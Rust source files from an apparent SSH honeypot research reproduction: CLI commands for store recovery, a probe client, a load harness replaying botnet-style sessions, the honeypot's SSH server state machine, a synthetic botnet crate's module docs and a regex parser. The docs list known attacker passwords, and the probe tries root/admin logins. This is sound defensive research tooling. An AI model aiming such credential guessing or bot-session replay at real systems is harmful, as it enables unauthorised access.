    let dry_run = args.iter().any(|a| a == "--dry-run");
    let Some(path) = args.iter().find(|a| !a.starts_with("--")) else {
        eprintln!("usage: honeylab recover <store.hsdb> [--dry-run]");
        return 2;
    };
    if !is_sessiondb_path(path) {
        eprintln!("error: {path} is not a sessiondb store");
        return 1;
    }
    let report = if dry_run {
        recovery_preview(path)
    } else {
        recover(path)
    };
    let report = match report {
        Ok(r) => r,
        Err(e) => {
            eprintln!("error recovering {path}: {e}");
            return 1;
        }
    };
    if report.is_clean() {
        eprintln!("store is clean: no WAL, no orphaned temp files");
    } else {
        let verb = if dry_run {
            "would recover"
        } else {
            "recovered"
        };
        eprintln!("{verb}:");
        for line in report.render().lines() {
            eprintln!("  {line}");
        }
    }
    // Full CRC-checked read-back: recovery must never hand analysis a
    // store it cannot trust.
    let store = match Store::open(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("error opening {path}: {e}");
            return 1;
        }
    };
    let summary = store.summary();
    match store.scan().records().collect::<Result<Vec<_>, _>>() {
        Ok(recs) => {
            eprintln!(
                "store: {} sessions in {} segments, CRCs intact",
                recs.len(),
                summary.segments
            );
            0
        }
        Err(e) => {
            eprintln!("error: store fails CRC verification after recovery: {e}");
            1
        }
    }
}

/// `honeylab probe <addr> [--count N]`: a scripted SSH client for smoke
/// tests — drives N sequential sessions and reports how many completed
/// the full dialogue.
fn cmd_probe(args: &[String]) -> i32 {
    let Some(addr) = args.iter().find(|a| !a.starts_with("--")) else {
        eprintln!("usage: honeylab probe <host:port> [--count N]");
        return 2;
    };
    let addr: std::net::SocketAddr = match addr.parse() {
        Ok(a) => a,
        Err(_) => {
            eprintln!("invalid address '{addr}' (expected host:port)");
            return 2;
        }
    };
    let count: u64 = match parse_flag(args, "--count") {
        Ok(n) => n.unwrap_or(1),
        Err(code) => return code,
    };
    let mut completed = 0u64;
    for i in 0..count {
        let script = ClientScript::new(
            "root",
            &["root", "admin"],
            &[&format!("echo probe-{i}"), "uname -a"],
        );
        match probe_once(addr, script) {
            Ok(()) => completed += 1,
            Err(e) => eprintln!("probe {i}: {e}"),
        }
    }
    eprintln!("probe: {completed}/{count} sessions completed");
    if completed == count {
        0
    } else {
        1
    }
}

fn probe_once(addr: std::net::SocketAddr, script: ClientScript) -> Result<(), String> {
    let mut stream = std::net::TcpStream::connect(addr).map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .map_err(|e| format!("socket: {e}"))?;
    let _ = stream.set_nodelay(true);
    let mut client = SshClient::new(script, b"honeylab-probe-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !client.is_closed() {
        if std::time::Instant::now() >= deadline {
            return Err("dialogue stalled".into());
        }
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).map_err(|e| format!("write: {e}"))?;
        }
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => client
                .input(&buf[..n])
                .map_err(|e| format!("protocol: {e}"))?,
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => return Err(format!("read: {e}")),
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
    Ok(())
}

/// `honeylab barrage <addr> [...]`: the load harness — replays a
/// deterministic botnet-archetype session mix against a live serve
/// instance over real sockets and reports throughput, latency
/// quantiles, and shed rate.
fn cmd_barrage(args: &[String]) -> i32 {
    let Some(addr) = args.iter().find(|a| !a.starts_with("--")) else {
        eprintln!(
            "usage: honeylab barrage <host:port> [--sessions N] [--rate R | --concurrency N] …"
        );
        return 2;
    };
    let addr: std::net::SocketAddr = match addr.parse() {
        Ok(a) => a,
        Err(_) => {
            eprintln!("invalid address '{addr}' (expected host:port)");
            return 2;
        }
    };
    let mut cfg = BarrageConfig {
        addr,
        ..BarrageConfig::default()
    };
    macro_rules! take {
        ($name:literal, $field:expr) => {
            match parse_flag(args, $name) {
                Ok(Some(v)) => $field = v,
                Ok(None) => {}
                Err(code) => return code,
            }
        };
    }
    take!("--sessions", cfg.sessions);
    take!("--seed", cfg.seed);
    take!("--workers", cfg.workers);
    take!("--max-in-flight", cfg.max_in_flight);
    if let Some(s) = match parse_flag::<u64>(args, "--deadline-secs") {
        Ok(v) => v,
        Err(code) => return code,
    } {
        cfg.session_deadline = Duration::from_secs(s);
    }
    let rate = match parse_flag::<f64>(args, "--rate") {
        Ok(v) => v,
        Err(code) => return code,
    };
    let concurrency = match parse_flag::<usize>(args, "--concurrency") {
        Ok(v) => v,
        Err(code) => return code,
    };
    let think_ms = match parse_flag::<u64>(args, "--think-ms") {
        Ok(v) => v,
        Err(code) => return code,
    };
    cfg.mode = match (rate, concurrency) {
        (Some(_), Some(_)) => {
            eprintln!("--rate (open loop) and --concurrency (closed loop) are exclusive");
            return 2;
        }
        (Some(r), None) if r <= 0.0 => {
            eprintln!("--rate must be positive");
            return 2;
        }
        (Some(r), None) => LoadMode::Open { rate: r },
        (None, c) => LoadMode::Closed {
            concurrency: c.unwrap_or(64).max(1),
            think: Duration::from_millis(think_ms.unwrap_or(0)),
        },
    };
    let json = match flag(args, "--format").as_deref() {
        None | Some("text") => false,
        Some("json") => true,
        Some(other) => {
            eprintln!("--format needs 'text' or 'json' (got '{other}')");
            return 2;
        }
    };
    match barrage::run(&cfg) {
        Ok(report) => {
            if json {
                print!("{}", report.api_json().pretty());
            } else {
                for line in report.render().lines() {
                    eprintln!("{line}");
                }
            }
            // Exit status mirrors the smoke-test contract: every planned
            // session must have finished one way or the other, and none
            // may have died to a client-side error.
            if report.completed + report.shed == report.planned && report.errors == 0 {
                0
            } else {
                1
            }
        }
        Err(e) => {
            eprintln!("barrage failed: {e}");
            1
        }
    }
}

fn cmd_classify() -> i32 {
    let cl = Classifier::table1();
    let stdin = std::io::stdin();
    for line in stdin.lock().lines() {
        let Ok(line) = line else { break };
        if line.trim().is_empty() {
            continue;
        }
        println!("{:<26} {line}", cl.classify(&line));
    }
    0
}

fn cmd_table1() -> i32 {
    println!("{:<26} pattern", "label");
    for (label, pattern) in honeylab::core::classify::TABLE1_RULES {
        println!("{label:<26} {pattern}");
    }
    println!("{:<26} (fallback)", honeylab::core::UNKNOWN_LABEL);
    0
}

/// Every envelope kind `api-sample` can emit, with its sample document.
/// These are the exact bytes committed under `docs/api_v1/`;
/// `scripts/check_api_schema.sh` re-emits and diffs them in CI, so any
/// schema drift must come with a golden update in the same change.
fn api_sample_kinds() -> Vec<(&'static str, hutil::Json)> {
    use honeylab::core::api;
    use honeylab::serve::http::{error_json, index_json};
    use honeylab::serve::stats::{
        recovery_event_json, sample_record, session_event_json, ApiSnapshot, SessionSummary,
    };
    use honeylab::serve::ServeReport;
    let snap = ApiSnapshot::sample();
    let recovery = honeylab::sessiondb::RecoveryReport {
        wal_found: true,
        wal_stale: false,
        wal_frames: 12,
        wal_bytes_lost: 17,
        recovered_rows: 12,
        recovered_segment: None,
        tmp_removed: 1,
    };
    vec![
        (
            "analysis",
            api::analysis_json(&api::samples::analysis_report()),
        ),
        ("stats", snap.stats_json()),
        ("sessions_recent", snap.recent_json()),
        ("credentials_top", snap.credentials_json()),
        ("health", snap.health_json()),
        ("serve_report", ServeReport::sample().api_json()),
        ("barrage_report", BarrageReport::sample().api_json()),
        (
            "session_event",
            session_event_json(&SessionSummary::of(&sample_record(1, 1_700_000_100))),
        ),
        ("recovery_event", recovery_event_json(&recovery)),
        ("index", index_json()),
        ("error", error_json(404, "unknown endpoint")),
    ]
}

/// `honeylab api-sample [KIND]`: print the canonical honeylab-api v1
/// sample document for KIND; with no KIND, list the kinds.
fn cmd_api_sample(args: &[String]) -> i32 {
    let kinds = api_sample_kinds();
    match args.iter().find(|a| !a.starts_with("--")) {
        None => {
            for (kind, _) in &kinds {
                println!("{kind}");
            }
            0
        }
        Some(kind) => match kinds.into_iter().find(|(k, _)| k == kind) {
            Some((_, doc)) => {
                print!("{}", doc.pretty());
                0
            }
            None => {
                eprintln!(
                    "unknown api-sample kind '{kind}' (run `honeylab api-sample` for the list)"
                );
                2
            }
        },
    }
}
