//! Server-side SSH state machine (the honeypot's wire frontend).

use crate::msg::{KexInit, Message};
use crate::packet::PacketCodec;
use crate::wire::{get_string, get_u32, put_string, put_u32};
use crate::SshError;
use bytes::{Bytes, BytesMut};
use hutil::Sha256;

/// Verdict for one authentication attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuthOutcome {
    /// Attempt accepted; the session proceeds to the connection layer.
    Accept,
    /// Attempt rejected; the client may retry.
    Reject,
}

/// Callbacks through which the honeypot drives policy: who may log in and
/// what executing a command produces.
pub trait ServerHandler {
    /// Decides one auth attempt. `password` is `None` for the `none` probe.
    fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome;

    /// Executes `command`, returning emulated output and an exit status.
    fn exec(&mut self, command: &str) -> (Vec<u8>, u32);
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    VersionExchange,
    Kex,
    KexDh,
    AwaitNewKeys,
    Auth,
    Connected,
    Closed,
}

/// The server endpoint. Feed raw bytes with [`SshServer::input`], drain
/// output with [`SshServer::take_output`].
pub struct SshServer<H: ServerHandler> {
    handler: H,
    phase: Phase,
    tx: PacketCodec,
    rx: PacketCodec,
    inbuf: BytesMut,
    outbuf: BytesMut,
    version: String,
    peer_version: Option<String>,
    kex_cookie: [u8; 16],
    server_nonce: Vec<u8>,
    client_nonce: Option<Vec<u8>>,
    session_key: Option<[u8; 32]>,
    /// Username that successfully authenticated, if any.
    authenticated_user: Option<String>,
    /// Auth attempts as (username, password-or-None, accepted).
    auth_log: Vec<(String, Option<String>, bool)>,
    /// Executed commands in order.
    exec_log: Vec<String>,
    open_channel: Option<u32>,
}

impl<H: ServerHandler> SshServer<H> {
    /// Creates a server with deterministic key-exchange material.
    pub fn new(handler: H, version: &str, kex_cookie: [u8; 16], server_nonce: Vec<u8>) -> Self {
        let mut s = Self {
            handler,
            phase: Phase::VersionExchange,
            tx: PacketCodec::new(),
            rx: PacketCodec::new(),
            inbuf: BytesMut::new(),
            outbuf: BytesMut::new(),
            version: version.to_string(),
            peer_version: None,
            kex_cookie,
            server_nonce,
            client_nonce: None,
            session_key: None,
            authenticated_user: None,
            auth_log: Vec::new(),
            exec_log: Vec::new(),
            open_channel: None,
        };
        // Identification string goes out immediately (RFC 4253 §4.2).
        s.outbuf.extend_from_slice(s.version.as_bytes());
        s.outbuf.extend_from_slice(b"\r\n");
        s
    }

    /// The peer's identification string once received.
    pub fn peer_version(&self) -> Option<&str> {
        self.peer_version.as_deref()
    }

    /// Auth attempts seen so far: `(username, password, accepted)`.
    pub fn auth_log(&self) -> &[(String, Option<String>, bool)] {
        &self.auth_log
    }

    /// Commands executed so far.
    pub fn exec_log(&self) -> &[String] {
        &self.exec_log
    }

    /// The authenticated username, if auth succeeded.
    pub fn authenticated_user(&self) -> Option<&str> {
        self.authenticated_user.as_deref()
    }

    /// Whether the connection reached its terminal state.
    pub fn is_closed(&self) -> bool {
        self.phase == Phase::Closed
    }

    /// Drains bytes queued for the peer.
    pub fn take_output(&mut self) -> Bytes {
        self.outbuf.split().freeze()
    }

    /// Consumes the handler, for post-dialogue inspection.
    pub fn into_handler(self) -> H {
        self.handler
    }

    /// Feeds raw bytes from the peer, advancing the state machine as far as
    /// possible. On error the connection is closed (as a real server would
    /// tear it down).
    pub fn input(&mut self, data: &[u8]) -> Result<(), SshError> {
        self.inbuf.extend_from_slice(data);
        let r = self.pump();
        if r.is_err() {
            self.phase = Phase::Closed;
        }
        r
    }

    fn pump(&mut self) -> Result<(), SshError> {
        loop {
            match self.phase {
                Phase::Closed => return Ok(()),
                Phase::VersionExchange => {
                    let Some(line) = take_line(&mut self.inbuf) else {
                        return Ok(());
                    };
                    if !line.starts_with("SSH-2.0-") {
                        return Err(SshError::BadVersionExchange(line));
                    }
                    self.peer_version = Some(line);
                    // Kick off negotiation.
                    self.send(Message::KexInit(KexInit::default_with_cookie(
                        self.kex_cookie,
                    )));
                    self.phase = Phase::Kex;
                }
                _ => {
                    let Some(payload) = self.rx.open(&mut self.inbuf)? else {
                        return Ok(());
                    };
                    let msg = Message::decode(payload)?;
                    self.handle(msg)?;
                }
            }
        }
    }

    fn send(&mut self, msg: Message) {
        let payload = msg.encode();
        let wire = self.tx.seal(&payload);
        self.outbuf.extend_from_slice(&wire);
        // NEWKEYS takes effect for *subsequent* outgoing packets.
        if matches!(msg, Message::NewKeys) {
            let key = self.session_key.expect("session key before NEWKEYS");
            self.tx.enable_integrity(key);
        }
    }

    fn disconnect(&mut self, code: u32, why: &str) {
        self.send(Message::Disconnect {
            code,
            description: why.to_string(),
        });
        self.phase = Phase::Closed;
    }

    fn handle(&mut self, msg: Message) -> Result<(), SshError> {
        match (self.phase, msg) {
            // A client may disconnect at any point.
            (_, Message::Disconnect { .. }) => {
                self.phase = Phase::Closed;
                Ok(())
            }
            (Phase::Kex, Message::KexInit(_peer)) => {
                self.phase = Phase::KexDh;
                Ok(())
            }
            (Phase::KexDh, Message::KexdhInit { e }) => {
                self.client_nonce = Some(e.to_vec());
                let key = derive_session_key(&e, &self.server_nonce);
                self.session_key = Some(key);
                let nonce = Bytes::from(self.server_nonce.clone());
                self.send(Message::KexdhReply {
                    host_key: Bytes::from_static(b"sim-ed25519-hostkey"),
                    f: nonce,
                    signature: Bytes::from_static(b"sim-signature"),
                });
                self.send(Message::NewKeys);
                self.phase = Phase::AwaitNewKeys;
                Ok(())
            }
            (Phase::AwaitNewKeys, Message::NewKeys) => {
                let key = self.session_key.expect("session key before peer NEWKEYS");
                self.rx.enable_integrity(key);
                self.phase = Phase::Auth;
                Ok(())
            }
            (Phase::Auth, Message::ServiceRequest(name)) => {
                if name != "ssh-userauth" {
                    return Err(SshError::Protocol(format!("unexpected service {name}")));
                }
                self.send(Message::ServiceAccept(name));
                Ok(())
            }
            (
                Phase::Auth,
                Message::UserauthRequest {
                    username,
                    service,
                    password,
                },
            ) => {
                if service != "ssh-connection" {
                    return Err(SshError::Protocol(format!("unexpected service {service}")));
                }
                let outcome = self.handler.auth(&username, password.as_deref());
                let accepted = outcome == AuthOutcome::Accept;
                self.auth_log.push((username.clone(), password, accepted));
                if accepted {
                    self.authenticated_user = Some(username);
                    self.send(Message::UserauthSuccess);
                    self.phase = Phase::Connected;
                } else {
                    self.send(Message::UserauthFailure {
                        methods: vec!["password".into()],
                    });
                }
                Ok(())
            }
            (Phase::Connected, Message::ChannelOpen { kind, sender, .. }) => {
                if kind != "session" || self.open_channel.is_some() {
                    self.send(Message::ChannelOpenFailure {
                        recipient: sender,
                        code: 2,
                    });
                    return Ok(());
                }
                self.open_channel = Some(sender);
                self.send(Message::ChannelOpenConfirmation {
                    recipient: sender,
                    sender: 0,
                    window: 1 << 20,
                    max_packet: 32_768,
                });
                Ok(())
            }
            (
                Phase::Connected,
                Message::ChannelRequest {
                    recipient: _,
                    kind,
                    want_reply,
                    payload,
                },
            ) => {
                let Some(client_chan) = self.open_channel else {
                    return Err(SshError::Protocol("request without open channel".into()));
                };
                if kind != "exec" {
                    if want_reply {
                        self.send(Message::ChannelFailure {
                            recipient: client_chan,
                        });
                    }
                    return Ok(());
                }
                let mut p = payload;
                let cmd_raw = get_string(&mut p)?;
                let command = String::from_utf8_lossy(&cmd_raw).into_owned();
                self.exec_log.push(command.clone());
                if want_reply {
                    self.send(Message::ChannelSuccess {
                        recipient: client_chan,
                    });
                }
                let (output, status) = self.handler.exec(&command);
                if !output.is_empty() {
                    self.send(Message::ChannelData {
                        recipient: client_chan,
                        data: Bytes::from(output),
                    });
                }
                // exit-status, EOF, close — the usual server-side teardown.
                let mut st = BytesMut::new();
                put_u32(&mut st, status);
                self.send(Message::ChannelRequest {
                    recipient: client_chan,
                    kind: "exit-status".into(),
                    want_reply: false,
                    payload: st.freeze(),
                });
                self.send(Message::ChannelEof {
                    recipient: client_chan,
                });
                self.send(Message::ChannelClose {
                    recipient: client_chan,
                });
                // One exec per session channel: the channel is done once the
                // close goes out, freeing the slot for the client's next open.
                self.open_channel = None;
                Ok(())
            }
            (Phase::Connected, Message::ChannelClose { .. }) => {
                self.open_channel = None;
                Ok(())
            }
            (Phase::Connected, Message::ChannelEof { .. }) => Ok(()),
            (phase, other) => {
                self.disconnect(2, "protocol error");
                Err(SshError::Protocol(format!(
                    "unexpected {other:?} in {phase:?}"
                )))
            }
        }
    }
}

/// Both sides derive the integrity key from the exchanged nonces.
pub(crate) fn derive_session_key(client_nonce: &[u8], server_nonce: &[u8]) -> [u8; 32] {
    let mut h = Sha256::new();
    h.update(b"sim-kex-v1");
    h.update(client_nonce);
    h.update(server_nonce);
    h.finalize()
}

/// Extracts one `\n`-terminated line (stripping `\r`) from `buf`.
pub(crate) fn take_line(buf: &mut BytesMut) -> Option<String> {
    let pos = buf.iter().position(|&b| b == b'\n')?;
    let line = buf.split_to(pos + 1);
    let mut s = String::from_utf8_lossy(&line[..pos]).into_owned();
    if s.ends_with('\r') {
        s.pop();
    }
    Some(s)
}

// Re-used by the client for exec payload construction.
pub(crate) fn exec_payload(command: &str) -> Bytes {
    let mut b = BytesMut::new();
    put_string(&mut b, command.as_bytes());
    b.freeze()
}

pub(crate) fn parse_exit_status(payload: &Bytes) -> Result<u32, SshError> {
    let mut p = payload.clone();
    get_u32(&mut p)
}

#[cfg(test)]
mod tests {
    use super::*;

    struct NullHandler;
    impl ServerHandler for NullHandler {
        fn auth(&mut self, _u: &str, _p: Option<&str>) -> AuthOutcome {
            AuthOutcome::Reject
        }
        fn exec(&mut self, _c: &str) -> (Vec<u8>, u32) {
            (Vec::new(), 0)
        }
    }

    #[test]
    fn sends_version_banner_immediately() {
        let mut s = SshServer::new(NullHandler, "SSH-2.0-Test", [0; 16], vec![1, 2, 3]);
        let out = s.take_output();
        assert_eq!(&out[..], b"SSH-2.0-Test\r\n");
    }

    #[test]
    fn rejects_non_ssh2_banner() {
        let mut s = SshServer::new(NullHandler, "SSH-2.0-Test", [0; 16], vec![1]);
        let err = s.input(b"SSH-1.5-old\r\n").unwrap_err();
        assert!(matches!(err, SshError::BadVersionExchange(_)));
        assert!(s.is_closed());
    }

    #[test]
    fn take_line_handles_crlf_and_partial() {
        let mut b = BytesMut::from(&b"SSH-2.0-x\r\nrest"[..]);
        assert_eq!(take_line(&mut b).as_deref(), Some("SSH-2.0-x"));
        assert_eq!(&b[..], b"rest");
        assert_eq!(take_line(&mut b), None);
    }

    #[test]
    fn session_key_is_symmetric_in_inputs_only() {
        let k1 = derive_session_key(b"a", b"b");
        let k2 = derive_session_key(b"a", b"b");
        let k3 = derive_session_key(b"b", b"a");
        assert_eq!(k1, k2);
        assert_ne!(k1, k3);
    }
}
