//! `botnet` — the synthetic attacker ecosystem.
//!
//! The paper's dataset is three years of real attacks against a 221-sensor
//! honeynet; that data is private (the repro gate), so this crate *is* the
//! substitution: a seeded ecosystem of 40+ scripted bot archetypes whose
//! campaign schedules, credential dictionaries, storage infrastructure and
//! behavioural quirks are calibrated to everything the paper reports about
//! them. The honeypot crate then observes these bots exactly as Cowrie
//! observed the real ones, and the analysis pipeline runs unchanged.
//!
//! Module map:
//!
//! * [`archetype`] — the bot behaviours: what one session of each bot
//!   looks like (credentials tried, command lines, transfer methods).
//! * [`catalog`](mod@catalog) — the calibrated campaign table: which bot is active
//!   when, at what paper-scale daily session rate (the source of every
//!   wave, spike and decline in Figs 1–4, 6, 10–13).
//! * [`storage`] — the malware-hosting ecosystem: storage IPs inside the
//!   synthetic storage ASes, per-IP activity windows (Fig 9), file
//!   variants per family (the 16k-hash diversity), and the
//!   [`honeypot::RemoteStore`] implementation honeypots download through.
//! * [`credentials`] — password dictionaries and the special credentials
//!   (`3245gs5662d34`, `dreambox`, `vertex25ektks123`, `phil`).
//! * [`events`] — the eight documented geopolitical event windows that
//!   coincide with `mdrfckr` activity dips (§10).
//! * [`driver`] — the 33-month generator: walks the window day by day,
//!   schedules sessions for every active campaign, runs them through the
//!   honeypot and returns the frozen dataset plus ground truth.

pub mod archetype;
pub mod catalog;
pub mod credentials;
pub mod driver;
pub mod events;
pub mod storage;

pub use archetype::{
    mdrfckr_b64_scripts, mdrfckr_c2_ips, Archetype, BotCtx, BotSessionContent, TransferMethod,
    MDRFCKR_KEY_LINE,
};
pub use catalog::{catalog, CampaignSpec, Window};
pub use driver::{
    generate_dataset, generate_dataset_into, Dataset, DriverConfig, FaultProfile, FaultReport,
};
pub use events::{mdrfckr_dip_windows, DipWindow};
pub use storage::{StorageEcosystem, StorageStore};
