//! Recursive-descent parser for the supported dialect.
//!
//! Grammar (standard precedence):
//!
//! ```text
//! alternation   := concat ('|' concat)*
//! concat        := repeat*
//! repeat        := atom quantifier?
//! quantifier    := ('*' | '+' | '?' | '{' bounds '}') '?'?
//! atom          := literal | '.' | class | group | anchor | escape
//! group         := '(' ('?:' | '?=' | '?!')? alternation ')'
//! ```

use crate::ast::{Ast, ClassItem};

/// A parse failure, with the byte offset in the pattern where it occurred.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Byte position in the pattern.
    pub position: usize,
    /// Human-readable description.
    pub message: String,
}

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "regex parse error at {}: {}",
            self.position, self.message
        )
    }
}

impl std::error::Error for ParseError {}

/// Parses `pattern` into an [`Ast`].
pub fn parse(pattern: &str) -> Result<Ast, ParseError> {
    let mut p = Parser {
        input: pattern.as_bytes(),
        pos: 0,
    };
    let ast = p.alternation()?;
    if p.pos != p.input.len() {
        return Err(p.err("unexpected character (unbalanced ')'?)"));
    }
    Ok(ast)
}

struct Parser<'a> {
    input: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, msg: &str) -> ParseError {
        ParseError {
            position: self.pos,
            message: msg.to_string(),
        }
    }

    fn peek(&self) -> Option<u8> {
        self.input.get(self.pos).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek()?;
        self.pos += 1;
        Some(b)
    }

    fn eat(&mut self, b: u8) -> bool {
        if self.peek() == Some(b) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn alternation(&mut self) -> Result<Ast, ParseError> {
        let mut branches = vec![self.concat()?];
        while self.eat(b'|') {
            branches.push(self.concat()?);
        }
        Ok(if branches.len() == 1 {
            branches.pop().expect("one branch")
        } else {
            Ast::Alternate(branches)
        })
    }

    fn concat(&mut self) -> Result<Ast, ParseError> {
        let mut parts = Vec::new();
        while let Some(b) = self.peek() {
            if b == b'|' || b == b')' {
                break;
            }
            parts.push(self.repeat()?);
        }
        Ok(match parts.len() {
            0 => Ast::Empty,
            1 => parts.pop().expect("one part"),
            _ => Ast::Concat(parts),
        })
    }

    fn repeat(&mut self) -> Result<Ast, ParseError> {
        let atom = self.atom()?;
        let (min, max) = match self.peek() {
            Some(b'*') => {
                self.pos += 1;
                (0, None)
            }
            Some(b'+') => {
                self.pos += 1;
                (1, None)
            }
            Some(b'?') => {
                self.pos += 1;
                (0, Some(1))
            }
            Some(b'{') => {
                // `{` not followed by digits is a literal in Python; we keep
                // it strict only when it parses as bounds.
                if let Some(bounds) = self.try_bounds()? {
                    bounds
                } else {
                    return Ok(atom);
                }
            }
            _ => return Ok(atom),
        };
        if self.is_zero_width(&atom) {
            return Err(self.err("quantifier applied to zero-width assertion"));
        }
        let greedy = !self.eat(b'?');
        Ok(Ast::Repeat {
            node: Box::new(atom),
            min,
            max,
            greedy,
        })
    }

    /// Parses `{n}`, `{n,}` or `{n,m}` starting at `{`. Returns `Ok(None)`
    /// (without consuming) when the braces do not form bounds, mirroring
    /// Python's lenient treatment of a literal `{`.
    fn try_bounds(&mut self) -> Result<Option<(u32, Option<u32>)>, ParseError> {
        let start = self.pos;
        debug_assert_eq!(self.peek(), Some(b'{'));
        self.pos += 1;
        let min = self.number();
        let bounds = match (min, self.peek()) {
            (Some(n), Some(b'}')) => {
                self.pos += 1;
                Some((n, Some(n)))
            }
            (Some(n), Some(b',')) => {
                self.pos += 1;
                let max = self.number();
                if self.eat(b'}') {
                    if let Some(m) = max {
                        if m < n {
                            self.pos = start;
                            return Err(ParseError {
                                position: start,
                                message: "bad repetition bounds: max < min".to_string(),
                            });
                        }
                    }
                    Some((n, max))
                } else {
                    None
                }
            }
            _ => None,
        };
        if bounds.is_none() {
            self.pos = start; // literal '{'
        }
        Ok(bounds)
    }

    fn number(&mut self) -> Option<u32> {
        let start = self.pos;
        while self.peek().is_some_and(|b| b.is_ascii_digit()) {
            self.pos += 1;
        }
        if self.pos == start {
            return None;
        }
        std::str::from_utf8(&self.input[start..self.pos])
            .ok()
            .and_then(|s| s.parse().ok())
    }

    fn is_zero_width(&self, ast: &Ast) -> bool {
        matches!(
            ast,
            Ast::StartAnchor | Ast::EndAnchor | Ast::WordBoundary(_) | Ast::Lookahead { .. }
        )
    }

    fn atom(&mut self) -> Result<Ast, ParseError> {
        match self.peek() {
            None => Err(self.err("expected atom, found end of pattern")),
            Some(b'(') => self.group(),
            Some(b'[') => self.class(),
            Some(b'^') => {
                self.pos += 1;
                Ok(Ast::StartAnchor)
            }
            Some(b'$') => {
                self.pos += 1;
                Ok(Ast::EndAnchor)
            }
            Some(b'.') => {
                self.pos += 1;
                Ok(Ast::AnyByte)
            }
            Some(b'\\') => {
                self.pos += 1;
                self.escape()
            }
            Some(b @ (b'*' | b'+' | b'?')) => Err(ParseError {
                position: self.pos,
                message: format!("dangling quantifier '{}'", b as char),
            }),
            Some(b')') => Err(self.err("unbalanced ')'")),
            Some(b) => {
                self.pos += 1;
                Ok(Ast::Byte(b))
            }
        }
    }

    fn group(&mut self) -> Result<Ast, ParseError> {
        debug_assert_eq!(self.peek(), Some(b'('));
        self.pos += 1;
        let kind = if self.eat(b'?') {
            match self.bump() {
                Some(b':') => GroupKind::NonCapturing,
                Some(b'=') => GroupKind::Lookahead(true),
                Some(b'!') => GroupKind::Lookahead(false),
                _ => return Err(self.err("unsupported group flag (only ?: ?= ?!)")),
            }
        } else {
            GroupKind::Capturing
        };
        let inner = self.alternation()?;
        if !self.eat(b')') {
            return Err(self.err("expected ')'"));
        }
        Ok(match kind {
            GroupKind::Capturing | GroupKind::NonCapturing => Ast::Group(Box::new(inner)),
            GroupKind::Lookahead(positive) => Ast::Lookahead {
                positive,
                node: Box::new(inner),
            },
        })
    }

    fn class(&mut self) -> Result<Ast, ParseError> {
        debug_assert_eq!(self.peek(), Some(b'['));
        self.pos += 1;
        let negated = self.eat(b'^');
        let mut items = Vec::new();
        // A ']' immediately after '[' or '[^' is a literal.
        if self.peek() == Some(b']') {
            self.pos += 1;
            items.push(ClassItem::Byte(b']'));
        }
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated character class")),
                Some(b']') => {
                    self.pos += 1;
                    break;
                }
                _ => {}
            }
            let lo = self.class_atom()?;
            // Try a range `lo-hi` (but `-` before `]` is a literal).
            if self.peek() == Some(b'-') && self.input.get(self.pos + 1) != Some(&b']') {
                if let ClassAtom::Byte(lo_b) = lo {
                    self.pos += 1; // '-'
                    match self.class_atom()? {
                        ClassAtom::Byte(hi_b) => {
                            if hi_b < lo_b {
                                return Err(self.err("invalid class range (hi < lo)"));
                            }
                            items.push(ClassItem::Range(lo_b, hi_b));
                            continue;
                        }
                        ClassAtom::Predefined(_) => {
                            return Err(self.err("class escape cannot bound a range"));
                        }
                    }
                }
            }
            items.push(match lo {
                ClassAtom::Byte(b) => ClassItem::Byte(b),
                ClassAtom::Predefined(it) => it,
            });
        }
        Ok(Ast::Class { negated, items })
    }

    fn class_atom(&mut self) -> Result<ClassAtom, ParseError> {
        match self.bump() {
            None => Err(self.err("unterminated character class")),
            Some(b'\\') => match self.bump() {
                None => Err(self.err("dangling backslash in class")),
                Some(b'd') => Ok(ClassAtom::Predefined(ClassItem::Digit)),
                Some(b'D') => Ok(ClassAtom::Predefined(ClassItem::NotDigit)),
                Some(b's') => Ok(ClassAtom::Predefined(ClassItem::Space)),
                Some(b'S') => Ok(ClassAtom::Predefined(ClassItem::NotSpace)),
                Some(b'w') => Ok(ClassAtom::Predefined(ClassItem::Word)),
                Some(b'W') => Ok(ClassAtom::Predefined(ClassItem::NotWord)),
                Some(b'x') => Ok(ClassAtom::Byte(self.hex_byte()?)),
                Some(b'n') => Ok(ClassAtom::Byte(b'\n')),
                Some(b't') => Ok(ClassAtom::Byte(b'\t')),
                Some(b'r') => Ok(ClassAtom::Byte(b'\r')),
                Some(b) => Ok(ClassAtom::Byte(b)),
            },
            Some(b) => Ok(ClassAtom::Byte(b)),
        }
    }

    fn hex_byte(&mut self) -> Result<u8, ParseError> {
        let hi = self.bump().and_then(hex_val);
        let lo = self.bump().and_then(hex_val);
        match (hi, lo) {
            (Some(h), Some(l)) => Ok(h * 16 + l),
            _ => Err(self.err("invalid \\xHH escape")),
        }
    }

    fn escape(&mut self) -> Result<Ast, ParseError> {
        match self.bump() {
            None => Err(self.err("dangling backslash")),
            Some(b'd') => Ok(class_of(ClassItem::Digit)),
            Some(b'D') => Ok(class_of(ClassItem::NotDigit)),
            Some(b's') => Ok(class_of(ClassItem::Space)),
            Some(b'S') => Ok(class_of(ClassItem::NotSpace)),
            Some(b'w') => Ok(class_of(ClassItem::Word)),
            Some(b'W') => Ok(class_of(ClassItem::NotWord)),
            Some(b'b') => Ok(Ast::WordBoundary(true)),
            Some(b'B') => Ok(Ast::WordBoundary(false)),
            Some(b'n') => Ok(Ast::Byte(b'\n')),
            Some(b't') => Ok(Ast::Byte(b'\t')),
